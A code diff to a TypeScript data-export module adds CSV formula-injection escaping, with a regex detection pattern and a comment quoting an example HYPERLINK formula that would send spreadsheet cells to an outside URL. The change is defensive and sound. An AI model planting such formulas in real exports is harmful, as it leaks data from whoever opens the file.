@@ -6,6 +6,15 @@ import type { Db } from '../db/workspace-file';
 import { dailyKpis } from './daily-kpis';
 
 export type ExportWhat = 'mentions' | 'authors' | 'kpis';
+
+/**
+ * Cells a spreadsheet would run as a formula: =, +, -, a tab or a CR first, or '@' before a
+ * function's name (`@SUM(`). A post's text and an author's name are anyone's, and the CSV is
+ * opened in Excel: `=HYPERLINK("http://…?d="&A1,"ver factura")` would send cells away. Papa
+ * prefixes such a cell with ' (numbers and booleans stay as they are); a reply that starts
+ * with "@acme" is not a formula and stays as written.
+ */
+const FORMULA = /^(?:[=+\-\t\r]|@\w*\()/;
 export type ExportFormat = 'csv' | 'json' | 'jsonl';
 
 const QUERIES: Record<Exclude<ExportWhat, 'kpis'>, string> = {
@@ -67,7 +76,10 @@ export async function exportData(
   let batch: Record<string, unknown>[] = [];
   const flush = async (): Promise<void> => {
     if (!batch.length) return;
-    if (format === 'csv') await write(`${Papa.unparse(batch, { header: n === batch.length })}\r\n`);
+    if (format === 'csv')
+      await write(
+        `${Papa.unparse(batch, { header: n === batch.length, escapeFormulae: FORMULA })}\r\n`,
+      );
     else if (format === 'jsonl') await write(batch.map((r) => JSON.stringify(r)).join('\n') + '\n');
     else
       await write(
